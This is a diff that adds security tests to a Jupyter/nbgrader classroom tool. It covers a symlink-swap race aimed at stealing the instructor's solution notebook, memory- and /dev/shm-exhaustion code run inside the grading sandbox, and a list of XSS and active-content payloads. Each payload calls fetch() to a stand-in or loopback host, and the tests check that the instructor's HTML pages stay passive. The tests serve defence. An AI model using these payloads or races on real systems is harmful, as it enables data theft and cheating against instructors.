@@ -307,6 +307,87 @@ def test_safe_collect_takes_the_latest_genuine_submission(tmp_path, monkeypatch)
                for x in lines) == 1
 
 
+def _flip(target: Path, secret: Path, stop, flips: list[int]) -> None:
+    """The student's process: ``target`` becomes a link to ``secret`` and back, fast."""
+    genuine, link = target.with_name("genuine.tmp"), target.with_name("link.tmp")
+    body = target.read_bytes()
+    while not stop.is_set():
+        link.unlink(missing_ok=True)
+        link.symlink_to(secret)
+        os.rename(link, target)  # now a link to the instructor's file
+        time.sleep(0.002)
+        genuine.write_bytes(body)
+        os.rename(genuine, target)  # a regular file again
+        time.sleep(0.002)
+        flips[0] += 1
+
+
+def test_collect_never_follows_a_link_swapped_in_during_the_copy(tmp_path, monkeypatch) -> None:
+    """Issue 54: the check-then-copy race. A student's process swaps their notebook (and
+    their whole folder) between the genuine one and a link to the instructor's source
+    hundreds of times a second while collect runs again and again: every collected copy is
+    the genuine notebook or nothing (refused), never the instructor's file."""
+    import threading
+
+    from nbgrader.coursedir import CourseDirectory
+
+    from coursetools.classroom.exchange import SafeCollect
+
+    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}")
+    me = pwd.getpwuid(os.geteuid()).pw_name
+    course = tmp_path / "course"
+    (course / "source" / "hw").mkdir(parents=True)
+    secret = course / "source" / "hw" / "nb.ipynb"
+    secret.write_text("### BEGIN SOLUTION (the instructor's)")
+    inbound = tmp_path / "exchange" / "c" / "inbound"
+    stamp = f"{datetime.now(UTC) - timedelta(seconds=5):%Y-%m-%d %H:%M:%S.%f} UTC"
+    folder = _submission(inbound, me, stamp)
+    (folder / "nb.ipynb").write_text("genuine")
+    # A second submission whose whole folder is swapped for a link to the source folder.
+    earlier = f"{datetime.now(UTC) - timedelta(seconds=9):%Y-%m-%d %H:%M:%S.%f} UTC"
+    other = _submission(inbound / "o", me, earlier)
+    moved = inbound / other.name
+    other.rename(moved)
+    cd = CourseDirectory(root=str(course), course_id="c", assignment_id="hw")
+    stop, flips = threading.Event(), [0]
+
+    def flip_folder() -> None:
+        real, link = moved.with_name("real.tmp"), moved.with_name("lnk.tmp")
+        while not stop.is_set():
+            os.rename(moved, real)
+            link.symlink_to(secret.parent)
+            os.rename(link, moved)
+            time.sleep(0.002)
+            moved.unlink()
+            os.rename(real, moved)  # the folder again
+            time.sleep(0.002)
+
+    flippers = [threading.Thread(target=_flip, args=(folder / "nb.ipynb", secret, stop, flips)),
+                threading.Thread(target=flip_folder)]
+    for t in flippers:
+        t.start()
+    seen = {"genuine": 0, "nothing": 0}
+    rounds, started = 0, time.monotonic()
+    try:
+        while rounds < 200 or flips[0] < 100:
+            shutil.rmtree(course / "submitted", ignore_errors=True)
+            collect = SafeCollect(coursedir=cd, authenticator=None, root=str(tmp_path / "exchange"))
+            collect.init_src()
+            collect.copy_files()
+            got = course / "submitted" / me / "hw"
+            texts = [p.read_text() for p in got.rglob("*.ipynb")] if got.is_dir() else []
+            assert not [t for t in texts if "SOLUTION" in t], f"round {rounds}: collected the source"
+            assert not [p for p in got.rglob("*") if p.is_symlink()] if got.is_dir() else True
+            seen["genuine" if texts else "nothing"] += 1
+            rounds += 1
+            assert time.monotonic() - started < 120
+    finally:
+        stop.set()
+        for t in flippers:
+            t.join()
+    assert flips[0] >= 100 and seen["genuine"] > 0, (flips, seen)
+
+
 # -- the grading sandbox (real bubblewrap, real kernel) --------------------------------------
 PLANTED = r"""
 import json, os, subprocess
@@ -331,6 +412,31 @@ for p in procs:
     p.kill(); p.wait()
 found["processes"] = len(procs)
 found["uid"] = os.getuid()
+def workers():  # issue 54: four workers of 1.5 GiB each, at the same time
+    import time
+    pids = []
+    for _ in range(4):
+        pid = os.fork()
+        if pid == 0:
+            try:  # let the OOM killer take a worker first: the kernel reports the rest
+                with open("/proc/self/oom_score_adj", "w") as f:
+                    f.write("1000")
+            except OSError:
+                pass
+            try:
+                block = b"w" * (1536 * 1024 * 1024)
+                time.sleep(3)
+                os._exit(0 if len(block) else 1)
+            except MemoryError:
+                os._exit(3)
+        pids.append(pid)
+    found["workers_ok"] = sum(os.waitstatus_to_exitcode(os.waitpid(p, 0)[1]) == 0 for p in pids)
+attempt("workers", workers)
+def fill_shm():
+    with open("/dev/shm/fill", "wb") as f:
+        for _ in range(200):
+            f.write(b"s" * 1024 * 1024)
+attempt("fill_shm", fill_shm)
 print("SANDBOX-REPORT " + json.dumps(found))
 """
 
@@ -360,7 +466,7 @@ def run_planted(kernel_dir: Path, cwd: Path, names: dict[str, str]) -> dict:
     return json.loads(line.split(" ", 1)[1])
 
 
-def test_sandbox_kernel_hides_the_course_and_limits_the_code(tmp_path, monkeypatch) -> None:
+def test_sandbox_kernel_hides_the_course_and_limits_the_code(tmp_path, monkeypatch, request) -> None:
     import json
 
     from coursetools.classroom.sandbox import KERNEL_NAME, kernel_spec
@@ -375,7 +481,14 @@ def test_sandbox_kernel_hides_the_course_and_limits_the_code(tmp_path, monkeypat
     monkeypatch.setenv("PYTHONPATH", f"{ROOT}{os.pathsep}{mounted}")
     spec = tmp_path / "share" / "kernels" / KERNEL_NAME / "kernel.json"
     spec.parent.mkdir(parents=True)
-    spec.write_text(json.dumps(kernel_spec(sys.executable, [course])))
+    from coursetools.classroom.cgroup import delegate, memory_controller
+
+    controller = memory_controller()
+    assert controller is not None, "no memory cgroup controller under /sys/fs/cgroup"
+    group = controller.course_folder(f"test-{secrets.token_hex(3)}")
+    delegate(group, controller.version, os.getuid(), os.getgid())
+    request.addfinalizer(lambda: [p.rmdir() for p in [*group.glob("kernel-*"), group]])
+    spec.write_text(json.dumps(kernel_spec(sys.executable, [course], group)))
     work = tmp_path / "submission"
     work.mkdir()
     found = run_planted(tmp_path / "share", work, {
@@ -385,6 +498,10 @@ def test_sandbox_kernel_hides_the_course_and_limits_the_code(tmp_path, monkeypat
     assert found["write_outside"] == "OSError" and not (mounted / "planted.txt").exists(), found
     assert found["read_shadow"] == "FileNotFoundError" and found["write_scratch"] == "done", found
     assert found["allocate_4g"] == "MemoryError" and found["uid"] == 65534, found
+    # One limit for the whole kernel: of four 1.5 GiB workers at most one held its block;
+    # /dev/shm has a size.
+    assert found["workers"] == "done" and found["workers_ok"] <= 1, found
+    assert found["fill_shm"] == "OSError", found
     assert not (work / "scratch.txt").exists()  # the scratch is the sandbox's own
     # A symbolic link in the submission: the kernel is never started.
     (work / "shadow").symlink_to("/etc/shadow")
@@ -437,7 +554,19 @@ def _hw_notebook():
     return nb
 
 
-def test_autograde_in_the_sandbox_warns_only_on_an_edited_check(tmp_path, monkeypatch) -> None:
+def _own_grading_cgroup(settings, request) -> None:
+    """The course's memory cgroup, as setup delegates it, for the test's user; removed after."""
+    from coursetools.classroom.cgroup import delegate, memory_controller
+    from coursetools.classroom.setup import grading_cgroup
+
+    controller = memory_controller()
+    assert controller is not None, "no memory cgroup controller under /sys/fs/cgroup"
+    group = grading_cgroup(settings)
+    delegate(group, controller.version, os.getuid(), os.getgid())
+    request.addfinalizer(lambda: [p.rmdir() for p in [*group.glob("kernel-*"), group]])
+
+
+def test_autograde_in_the_sandbox_warns_only_on_an_edited_check(tmp_path, monkeypatch, request) -> None:
     import json
 
     from nbgrader.apps import NbGraderAPI
@@ -450,7 +579,8 @@ def test_autograde_in_the_sandbox_warns_only_on_an_edited_check(tmp_path, monkey
     course = tmp_path / "course"
     (course / "source" / "hw").mkdir(parents=True)
     settings = ClassSettings(class_dir=tmp_path / "class", instructor="teacher", course_root=course,
-                             exchange_root=tmp_path / "exchange")
+                             exchange_root=tmp_path / "exchange", course_id=f"t-{secrets.token_hex(3)}")
+    _own_grading_cgroup(settings, request)
     (course / "nbgrader_config.py").write_text(nbgrader_config_text(settings, "instructor"))
     spec = tmp_path / "share" / "kernels" / KERNEL_NAME / "kernel.json"
     spec.parent.mkdir(parents=True)
@@ -493,6 +623,67 @@ def test_autograde_in_the_sandbox_warns_only_on_an_edited_check(tmp_path, monkey
         scores = {s: gb.find_submission("hw", s).code_score for s in work}
     # The solved one passed the hidden test too, in the sandbox; the edited check was restored.
     assert scores == {"blank": 0, "edited": 0, "solved": 2}, scores
+
+
+def test_student_html_is_passive_in_every_html_the_instructor_renders() -> None:
+    """Issue 54: the instructor's HTML export (the formgrader's pages, the feedback) of a
+    notebook carrying each payload holds the payloads' addresses only as text: in no
+    attribute, no script. Checked with a parse of the page written here, not the cleaner's."""
+    from html.parser import HTMLParser
+
+    from nbconvert import HTMLExporter
+    from traitlets.config import Config
+
+    from coursetools.classroom.autograde import NEUTRALISE
+
+    host = "http://payload.invalid"
+    code = nbformat.v4.new_code_cell("x", outputs=[
+        nbformat.v4.new_output("display_data", {
+            "text/html": f"<b>bold</b><script>fetch('{host}/s')</script>"
+                         f"<img src=x onerror=\"fetch('{host}')\">"}),
+        nbformat.v4.new_output("display_data", {
+            "image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'{host}\')"/>'}),
+        nbformat.v4.new_output("display_data", {"application/javascript": f"fetch('{host}/js')"}),
+        nbformat.v4.new_output("display_data", {"text/markdown": f"[x](javascript:fetch('{host}'))"}),
+        nbformat.v4.new_output("display_data", {"image/png": "iVBORw0KGgo="},
+                               metadata={"image/png": {"width": f"1 onerror=fetch('{host}')"}}),
+    ])
+    nb = nbformat.v4.new_notebook(cells=[
+        nbformat.v4.new_markdown_cell(PAYLOAD_MARKDOWN.replace("HOST", host)), code,
+        nbformat.v4.new_raw_cell(f"<script>fetch('{host}/raw')</script>",
+                                 metadata={"raw_mimetype": "text/html"})])
+    # A pasted image (a cell attachment) stays; one naming a missing attachment is shown as
+    # text instead of stopping the page.
+    pasted = nbformat.v4.new_markdown_cell("![pasted](attachment:p.png)")
+    pasted["attachments"] = {"p.png": {"image/png": "iVBORw0KGgo="}}
+    nb.cells += [pasted, nbformat.v4.new_markdown_cell("![gone](attachment:gone.png)")]
+    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
+    config = Config()
+    config.HTMLExporter.preprocessors = [NEUTRALISE]
+    class Find(HTMLParser):
+        """Payload addresses in attributes or scripts; handlers; active elements."""
+
+        def __init__(self) -> None:
+            super().__init__()
+            self.active: list[str] = []
+
+        def handle_starttag(self, tag, attrs):
+            self.active.extend(f"<{tag} {k}={v}>" for k, v in attrs if v and "payload.invalid" in v)
+            self.active.extend(f"<{tag} {k}>" for k, v in attrs if k.startswith("on"))
+            if tag in ("base", "iframe", "form") or (tag == "meta" and dict(attrs).get("http-equiv")):
+                self.active.append(f"<{tag}>")
+
+        def handle_data(self, data):
+            if self.lasttag == "script" and "payload.invalid" in data:
+                self.active.append(f"script: {data[:60]}")
+
+    for template in ("lab", "classic"):
+        page, _ = HTMLExporter(config=config, template_name=template).from_notebook_node(nb)
+        find = Find()
+        find.feed(page)
+        assert find.active == [], (template, find.active)
+        assert 'src="data:image/png;base64,iVBORw0KGgo="' in page and "attachment:gone.png" in page
+        assert "A written answer with active content" in page and "<b>bold</b>" in page
 
 
 def test_setup_refuses_an_exchange_folder_someone_made_first(tmp_path) -> None:
@@ -563,6 +754,7 @@ class Machine:
         self.modes: dict[Path, int] = {}
         self.files: list[Path] = []
         self.procs: list[subprocess.Popen] = []
+        self.cgroups: list[Path] = []
 
     def add_user(self, name: str) -> Path:
         subprocess.run(["useradd", "--create-home", "--shell", "/bin/bash", name], check=True)
@@ -597,6 +789,12 @@ class Machine:
             subprocess.run(["userdel", "--remove", user], capture_output=True)
         for folder, mode in self.modes.items():
             folder.chmod(mode)
+        for group in self.cgroups:  # the course's memory cgroup, empty once the kernels ended
+            for sub in [*group.glob("kernel-*"), group]:
+                try:
+                    sub.rmdir()
+                except OSError as exc:
+                    left.append(f"cgroup {sub}: {exc}")
         for path in self.files:
             path.unlink(missing_ok=True)
         return left
@@ -659,6 +857,16 @@ def doc_blocks() -> dict[str, list[str]]:
     for m in re.finditer(r"^```bash (\w+)\n(.*?)^```", DOC.read_text(encoding="utf-8"), re.M | re.S):
         blocks.setdefault(m.group(1), []).append(m.group(2))
     return blocks
+
+
+def test_guide_installs_the_course_environment() -> None:
+    """Issue 54: the class's environment is the course's (its JupyterLab settings too), and
+    the install step keeps a Node.js that is already there (NodeSource's conflicts with
+    Debian's npm)."""
+    install = doc_blocks()["install"][0]
+    assert '-e ".[classroom]" ./course-settings' in install, install
+    assert "command -v npm >/dev/null || apt-get install -y nodejs npm" in install, install
+    assert "nodejs" not in install.splitlines()[0], install
 
 
 def run_root_block(block: str, class_dir: Path, home: Path) -> str:
@@ -724,6 +932,84 @@ print("CLASS-REPORT " + json.dumps(found))
 """
 
 
+#: Issue 54: active content in a submission, each piece calling home to a different path
+#: of the test's listener (HOST) when it runs, loads or is clicked.
+PAYLOAD_MARKDOWN = """\
+A written answer with active content.
+
+<img src="no-such-image.png" onerror="fetch('HOST/md-img-onerror')">
+<script>fetch('HOST/md-script')</script>
+<a href="javascript:fetch('HOST/md-js-link')" class="payload-click">click-js</a>
+<base href="HOST/md-base/">
+<img src="relative-after-base.png">
+<meta http-equiv="refresh" content="1;url=HOST/md-meta-refresh">
+<form action="HOST/md-form" method="get"><input type="password" name="pw" value="x">
+<button class="payload-click" type="submit">send</button></form>
+<iframe src="HOST/md-iframe"></iframe>
+<svg width="10" height="10" onload="fetch('HOST/md-svg')"><circle r="5"/></svg>
+<div style="background-image: url('HOST/md-css')">styled</div>
+<img src="HOST/md-tracking-pixel.png" alt="a pixel that tells when the page is read">
+
+![another pixel](HOST/md-markdown-image.png)
+
+[click-md-link](javascript:fetch('HOST/md-markdown-link'))
+"""
+PAYLOAD_CODE = """\
+from IPython.display import HTML, SVG, Javascript, display
+display(HTML("<script>fetch('HOST/out-html-script')</script>"
+             "<img src='nope.png' onerror=\\"fetch('HOST/out-html-onerror')\\">"))
+display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\\'HOST/out-svg\\')">'
+            '<circle r="5"/></svg>'))
+display(Javascript("fetch('HOST/out-javascript')"))
+display({"text/markdown": "<img src=nope.png onerror=\\"fetch('HOST/out-markdown')\\">"}, raw=True)
+"""
+
+
+class Listener:
+    """A loopback HTTP server recording every path asked of it (the payloads' calls)."""
+
+    def __init__(self) -> None:
+        import http.server
+        import threading
+
+        self.paths: list[str] = []
+        outer = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self):  # noqa: N802 - http.server's name
+                outer.paths.append(self.path)
+                self.send_response(204)
+                self.end_headers()
+
+            do_POST = do_GET  # noqa: N815
+
+            def log_message(self, *args):
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
+        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def payload_requests(page, listener: Listener, url: str) -> list[str]:
+    """Open ``url`` in ``page``, click what a reader would, and return the payloads' calls."""
+    seen: list[str] = []
+    page.on("request", lambda r: seen.append(r.url) if r.url.startswith(listener.base) else None)
+    page.goto(url, timeout=TIMEOUT_MS)
+    page.wait_for_timeout(2500)  # the meta refresh waits 1 s
+    for link in page.locator(".payload-click, a:text-is('click-md-link')").all():
+        try:
+            link.click(timeout=2000, no_wait_after=True)
+        except Exception:  # noqa: BLE001 - playwright's errors: a neutralised link is text
+            pass
+    page.wait_for_timeout(1500)
+    return sorted(set(seen) | {listener.base + p for p in listener.paths})
+
+
 def answer(release: Path, owner: str, kind: str, planted: dict | None = None) -> None:
     """Fill a fetched notebook as the student would (as root, then give it back)."""
     lesson = nbformat.read(LESSON, as_version=4)
@@ -741,6 +1027,9 @@ def answer(release: Path, owner: str, kind: str, planted: dict | None = None) ->
     if kind == "wrong" and planted:
         nb.cells.append(nbformat.v4.new_code_cell(
             "".join(f"{k} = {v!r}\n" for k, v in planted.items()) + PLANTED_IN_CLASS))
+        host = planted["PAYLOAD_HOST"]
+        nb.cells.append(nbformat.v4.new_markdown_cell(PAYLOAD_MARKDOWN.replace("HOST", host)))
+        nb.cells.append(nbformat.v4.new_code_cell(PAYLOAD_CODE.replace("HOST", host)))
     if kind != "blank":
         nbformat.write(nb, release)
     entry = pwd.getpwnam(owner)
@@ -845,6 +1134,11 @@ def test_class_end_to_end(machine, shared_tmp) -> None:
         f" --authenticator dummy --test-password {PASSWORD}", class_dir, root_home)
     settings = load_settings(class_dir)
     machine.files.append(profile_file(settings))
+    from coursetools.classroom.setup import grading_cgroup
+
+    group = grading_cgroup(settings)
+    assert group is not None and group.stat().st_uid == pwd.getpwnam(instructor).pw_uid, group
+    machine.cgroups.append(group)
     assert stat.S_IMODE(exchange.stat().st_mode) == 0o1777
     assert stat.S_IMODE(settings.course_root.stat().st_mode) == 0o700
     assert f'bind_url = "http://127.0.0.1:{port}"' in settings.hub_config.read_text()
@@ -921,6 +1215,7 @@ def test_class_end_to_end(machine, shared_tmp) -> None:
     assert auto_total > 0 and "ex2-check" in auto
     fetched = {k: homes[s] / ASSIGNMENT / LESSON.name for k, s in students.items()}
 
+    listener = Listener()  # where the submission's active content would call home
     with sync_playwright() as pw:
         browser = pw.chromium.launch(executable_path=find_chromium(), args=CHROMIUM_ARGS)
         try:
@@ -975,7 +1270,7 @@ def test_class_end_to_end(machine, shared_tmp) -> None:
                 "SOURCE": str(settings.course_root / "source" / ASSIGNMENT / LESSON.name),
                 "RELEASE": str(settings.course_root / "release" / ASSIGNMENT),
                 "COURSE": str(settings.course_root), "HOST_TMP": host_tmp,
-                "INBOUND": str(course_ex / "inbound")}
+                "INBOUND": str(course_ex / "inbound"), "PAYLOAD_HOST": listener.base}
             answer(fetched["wrong"], students["wrong"], "wrong", planted)
             page.click("#fetched_assignments_list button:text-is('Submit')")
             page.wait_for_selector(f"#submitted_assignments_list :text('{ASSIGNMENT}')", timeout=TIMEOUT_MS)
@@ -998,6 +1293,19 @@ def test_class_end_to_end(machine, shared_tmp) -> None:
                 mkdir '{inbound}/{attacker}+{ASSIGNMENT}+not-a-time+x'
                 echo forged""")
             assert "forged" in forged
+            # Issue 54: another's submission, by its exact name: the late student can read,
+            # plant, change or delete nothing in it (nbgrader left it world-writable).
+            real = next(p for p in inbound.glob(f"{victim}+{ASSIGNMENT}+*") if "forged" not in p.name)
+            gid = pwd.getpwnam(instructor).pw_gid
+            assert stat.S_IMODE(real.stat().st_mode) == 0o750 and real.stat().st_gid == gid
+            assert {stat.S_IMODE(p.stat().st_mode) for p in real.rglob("*") if p.is_file()} == {0o644}
+            meddle = as_user(settings, attacker, "bash", "-c", "; ".join(
+                f"if {cmd} 2>/dev/null; then echo MEDDLED: {cmd!r}; fi" for cmd in (
+                    f"touch '{real}/planted.ipynb'", f"rm -f '{real}/timestamp.txt'",
+                    f"echo x >> '{real}/{LESSON.name}'", f"cat '{real}/{LESSON.name}' >/dev/null",
+                    f"ls '{real}'", f"chmod 777 '{real}'")))
+            assert "MEDDLED" not in meddle, meddle
+            assert (real / "timestamp.txt").is_file() and not (real / "planted.ipynb").exists()
             # A student's server has no formgrader at all (not only no menu).
             resp = pages["blank"].goto(f"{base}/user/{students['blank']}/formgrader")
             assert resp is not None and resp.status == 404, resp and resp.status
@@ -1017,6 +1325,7 @@ def test_class_end_to_end(machine, shared_tmp) -> None:
             refused_log = (settings.course_root / "refused-submissions.log").read_text()
             assert refused_log.count("refused ") == 3 and f"owned by {attacker}" in refused_log
             # The checksum warning means what the guide says: one edited check, nothing else.
+            assert "will not proceed" not in graded_log and "SAWarning" not in graded_log, graded_log
             warnings = [line for line in graded_log.splitlines() if "Attribute 'checksum'" in line]
             assert len(warnings) == 1 and "cell ex2-check has changed" in warnings[0], warnings
             stage("autograded")
@@ -1034,10 +1343,26 @@ def test_class_end_to_end(machine, shared_tmp) -> None:
             for score in (auto_total, 0.0, auto_total - auto["ex2-check"]):
                 assert f"{score:g} / {auto_total:g}" in table, table
             shot(teacher, "05-formgrader-submissions")
+            # Issue 54: the late student's active content, on the manual-grading page the
+            # guide sends the instructor to: nothing runs, loads or navigates.
+            from nbgrader.api import Gradebook
+
+            with Gradebook(settings.gradebook_url) as gb:
+                graded_id = gb.find_submission_notebook(LESSON.stem, ASSIGNMENT, students["wrong"]).id
+            grading = teacher.context.new_page()
+            csp = grading.request.get(f"{base}/user/{instructor}/formgrader/submissions/{graded_id}/")
+            assert "base-uri 'self'" in csp.headers.get("content-security-policy", ""), csp.headers
+            calls = payload_requests(grading, listener,
+                                     f"{base}/user/{instructor}/formgrader/submissions/{graded_id}/")
+            assert grading.locator("text=A written answer with active content").count() == 1
+            shot(grading, "05b-formgrader-grading-page")
+            grading.close()
+            assert calls == [], f"the submission's active content ran in the formgrader: {calls}"
 
             stage("formgrader seen")
             # Feedback: generated, released, fetched (one student in the browser).
-            run_login_block(instructor, blocks["teacher"][2])  # the guide's feedback block
+            feedback_log = run_login_block(instructor, blocks["teacher"][2])  # the guide's feedback block
+            assert "WARNING" not in feedback_log and "Warning" not in feedback_log, feedback_log
             page = pages["correct"]
             page.click("#refresh_assignments_list")
             page.click("#submitted_assignments_list button:text-is('Fetch Feedback')", timeout=TIMEOUT_MS)
@@ -1045,6 +1370,13 @@ def test_class_end_to_end(machine, shared_tmp) -> None:
             shot(page, "06-student-feedback")
             for k in ("blank", "wrong"):
                 as_user(settings, students[k], "nbgrader", "fetch_feedback", ASSIGNMENT)
+            # The late student's feedback report, opened as a student would: passive too.
+            report = next((homes[students["wrong"]] / ASSIGNMENT / "feedback").glob(f"*/{LESSON.stem}.html"))
+            reader = browser.new_context().new_page()
+            calls = payload_requests(reader, listener, report.as_uri())
+            assert reader.locator("text=A written answer with active content").count() == 1
+            reader.close()
+            assert calls == [], f"the submission's active content ran in its feedback: {calls}"
         except Exception:
             for name, p in [*locals().get("pages", {}).items(), ("teacher", locals().get("teacher"))]:
                 if p is not None:
@@ -1052,6 +1384,7 @@ def test_class_end_to_end(machine, shared_tmp) -> None:
             raise
         finally:
             browser.close()
+            listener.close()
 
     for s in students.values():
         reports = list((homes[s] / ASSIGNMENT / "feedback").glob(f"*/{LESSON.stem}.html"))
@@ -1080,6 +1413,10 @@ def test_class_end_to_end(machine, shared_tmp) -> None:
         assert found[attack] in ("FileNotFoundError", "PermissionError", "OSError"), (attack, found)
     assert found["write_tmp"] == "done" and not Path(host_tmp).exists(), found  # its own /tmp
     assert found["allocate_4g"] == "MemoryError" and found["processes"] < 64, found
+    # One memory limit for the whole grading kernel (the course's cgroup, set up by setup
+    # and entered by the instructor's sandbox): of four 1.5 GiB workers at most one held.
+    assert found["workers"] == "done" and found["workers_ok"] <= 1, found
+    assert found["fill_shm"] == "OSError", found
     assert not (settings.course_root / "planted.txt").exists()
 
     # Scores, from the gradebook, against the lesson's own points.
